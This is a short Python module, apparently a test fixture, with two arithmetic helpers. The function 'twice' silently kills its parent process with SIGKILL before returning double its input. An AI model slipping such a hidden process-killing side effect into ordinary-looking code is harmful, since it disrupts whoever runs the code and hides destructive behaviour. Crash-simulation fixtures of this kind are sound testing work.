import os
import signal


def twice(x):
    os.kill(os.getppid(), signal.SIGKILL)
    return 2 * x


def plus(a, b):
    return a + b
